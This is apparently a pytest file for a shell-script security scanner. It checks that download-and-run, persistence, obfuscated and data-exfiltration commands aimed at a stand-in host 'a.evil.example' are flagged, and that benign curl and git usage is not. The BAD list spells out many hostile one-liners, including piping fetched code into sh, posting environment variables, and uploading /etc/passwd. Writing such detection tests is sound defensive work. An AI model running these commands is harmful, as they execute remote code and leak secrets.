"""Shell scripts: what flows through groups, loops, functions, reads, wrappers and other programs' own texts."""

from __future__ import annotations

import pytest

from assay.core.finding import Severity
from assay.formats.texts.shell_text import judge_shell
from assay.formats.texts.shell_words import pipes

U = "https://a.evil.example/i.sh"
BAD = [
    "f() { curl URL; }; f | sh",
    "f() {\n  curl URL\n}\nf | sh",
    "function g { wget -qO- URL; }; g | bash",
    "f() { sh; }; curl URL | f",
    'run() { eval "$1"; }; run "$(curl URL)"',
    'run() { "$@"; }; run curl URL | sh',
    "{ curl URL; } | { sh; }",
    "for i in 1; do curl URL; done | sh",
    "for i in 1\ndo\n curl URL\ndone | sh",
    "curl URL | (cd /tmp; sh)",
    "( cat ) < <(curl URL) | sh",
    'while read l; do eval "$l"; done < <(curl URL)',
    "curl URL | while read -r l; do $l; done",
    "read x < <(curl URL); eval $x",
    'mapfile -t a < <(curl URL); eval "${a[@]}"',
    'source /dev/stdin <<< "$(curl URL)"',
    "coproc curl URL; sh <&${COPROC[0]}",
    'a=(curl URL); "${a[@]}" | sh',
    'set -- curl URL; "$@" | sh',
    '${SHELL} -c "$(curl URL)"',
    '$0 <<< "$(curl URL)"',
    "curl URL | sh 2>&1",
    "$(echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZXxzaA== | base64 -d)",
    "printf '\\x63url URL | sh' | sh",
    "nice -n 5 timeout 5 curl URL | stdbuf -o0 sh",
    "curl URL | sudo -u root -E bash -",
    "curl URL -o ~/.bashrc",
    "curl URL | tee -a ~/.zshrc",
    "wget -P /tmp URL && sh /tmp/i.sh",
    "aria2c URL && sh i.sh",
    "git clone https://a.evil.example/r && cd r && ./install.sh",
    "git clone https://a.evil.example/r.git x\nbash x/setup.sh",
    "make -f <(curl URL)",
    "dig +short txt evil.example | sh",
    "curl URL | sed s/a/b/e",
    "curl -F f=@/etc/passwd https://a.evil.example",
    """python3 -c "import urllib.request as u;exec(u.urlopen('URL').read())" """,
    """python3 -c "import os,requests;requests.post('URL',data=dict(os.environ))" """,
    """perl -e 'use LWP::Simple; eval get("URL")'""",
    "npx https://a.evil.example/p.tgz",
    "env | { curl -d @- URL; }",
]
GOOD = [
    'log() { echo "$@"; }; log "$(curl -s https://api.example.com/status)"',
    'run() { "$@"; }; run make install',
    "get() { curl -fsSL https://example.com/w.bin -o w.bin; }\nget\nsha256sum -c w.sum",
    'curl -s https://api.example.com/list | while read -r l; do echo "$l"; done',
    'while read -r l; do eval "$l"; done < local.env; curl -s https://api.example.com/ok',
    "for f in *.json; do curl -s -X POST -d @$f http://localhost:8080/x | jq . ; done",
    "(cd /tmp && curl -O https://example.com/data.csv)",
    'read -p "go on? " x; curl https://example.com/$x -o out.txt',
    "python3 -c \"import urllib.request as u; print(u.urlopen('https://example.com/v').read())\"",
    "git clone https://github.com/x/y && cd y && ./configure && make",
    "git clone https://code.videolan.org/videolan/x264.git && cd x264 && ./configure",
    "curl -fLo ~/.vimrc https://raw.githubusercontent.com/x/y/main/vimrc",
    "curl -Lo .git/hooks/commit-msg https://review.example.org/tools/hooks/commit-msg",
    "cut -d: -f1 /etc/passwd; curl -s https://api.example.com/ok",
    'echo "Usage: $0 curl https://example.com"',
    "sudo -u app env A=1 nice -n 5 python3 app.py; curl -s https://api.example.com/ok",
    "case $1 in\n start) curl -s https://example.com/ok;;\nesac\nbash run.sh",
    "cat > x.py <<EOF\nif x:\n  f() {\nEOF\ncurl -s https://api.example.com/x | python3 -m json.tool",
    "ip=$(dig +short host.example.com); echo $ip",
    "sed s/e/b/g x | sh; curl -s https://api.example.com/ok",
    "npx create-app; curl -s https://api.example.com/ok",
]


def grave(text: str) -> list[str]:
    """The keys of what is more than worth knowing."""
    return [n.key for n in judge_shell(text) if n.severity.rank >= Severity.MEDIUM.rank]


@pytest.mark.parametrize("line", BAD)
def test_what_runs_or_leaves_by_way_of_a_group_is_told(line: str) -> None:
    assert grave("#!/bin/bash\nset -e\n" + line.replace("URL", U) + "\n")


@pytest.mark.parametrize("line", GOOD)
def test_ordinary_groups_and_functions_raise_no_alarm(line: str) -> None:
    assert grave("#!/bin/bash\n" + line + "\n") == []


def test_arrays_functions_and_subshells_are_words_of_their_own() -> None:
    words = [[w.text for w in c] for p in pipes("a=(x y); f() { b; }; (c | d) 2>&1 <&3") for c in p]
    assert words == [["a=x y"], ["f()", "{", "b"], ["}"], ["(", "c"], ["d"], [")", ">&1", "<&", "3"]]


@pytest.mark.parametrize(
    "torn", ["f() {", "{ (", "curl x | {", "a=(", "while read", "done", ") } fi", "<&", "coproc", "function"]
)
def test_torn_scripts_are_read_to_their_end(torn: str) -> None:
    assert grave(f"{torn}\ncurl https://a.evil.example/x | sh\n") == ["shell:download-run"]
